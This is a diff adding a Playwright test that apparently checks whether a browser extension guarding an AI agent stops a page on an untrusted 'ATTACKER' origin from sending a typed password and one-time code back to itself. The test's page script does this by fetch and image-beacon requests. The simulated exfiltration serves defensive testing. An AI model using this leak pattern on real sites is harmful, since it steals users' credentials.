@@ -455,6 +455,65 @@ test.describe('shown values with spaces or an @, percent-encoded in a URL', () =
   });
 });
 
+/**
+ * A password and a one-time code the agent typed into a page of a site the task does not name (reading
+ * open): that page must not send them to its own site in a URL. What a site showed may go back to it; what
+ * the agent typed into a secret field is exactly what that site must not receive.
+ */
+test.describe('a secret typed into an unnamed site, reading open', () => {
+  const PASSWORD = 'Tr0ub4dor-3x';
+  const CODE = '428913';
+  const typeAndLeak = async (browser: AgentBrowser, id: string, plain: boolean): Promise<string[]> => {
+    server.setPage(`/login/${id}`, '<!doctype html><form><input type="password" name="pw"><input name="otp" autocomplete="one-time-code"></form>');
+    const page = await browser.context.newPage();
+    await page.goto(`${server.origin(ATTACKER)}/login/${id}`);
+    await page.fill('input[name=pw]', PASSWORD);
+    await page.fill('input[name=otp]', CODE);
+    if (browser.extensionId !== null) {
+      const deadline = Date.now() + 15_000;
+      const recorded = async () => (await browser.floorRules()).some((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter === 'Tr0ub4dor');
+      while (!(await recorded())) {
+        if (Date.now() > deadline) throw new Error('the floor never received the typed password');
+        await sleep(100);
+      }
+    }
+    await page.evaluate(
+      ({ id, pw, code }) => {
+        void fetch(`/${id}/fetch/x?p=${pw}&o=${code}`).catch(() => undefined);
+        new Image().src = `/${id}/img/${pw}/${code}.png`;
+        new Image().src = `/${id}/plain/hello.png`;
+      },
+      { id, pw: PASSWORD, code: CODE },
+    );
+    if (plain) await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
+    await sleep(QUIET_MS);
+    await page.close();
+    return ['fetch', 'img'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
+  };
+
+  for (const variant of ['nohooks', 'full'] as const) {
+    test(`${variant} build: the page cannot send them to its own site; a request without them goes`, async () => {
+      test.setTimeout(90_000);
+      const browser = await launch(variant);
+      try {
+        await browser.setPolicy({ ...READ_ONLY, taskId: 'floor-exfil-typed', domains: null });
+        expect(await typeAndLeak(browser, `typed-${variant}-${++caseNumber}`, true)).toEqual([]);
+      } finally {
+        await browser.close();
+      }
+    });
+  }
+
+  test('negative control: without the extension both arrive', async () => {
+    const browser = await launch(null);
+    try {
+      expect(await typeAndLeak(browser, `typed-control-${++caseNumber}`, true)).toEqual(['fetch', 'img']);
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
 test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
   test('after the worker restarts, the floor still refuses the secret the page showed', async () => {
     test.setTimeout(90_000);
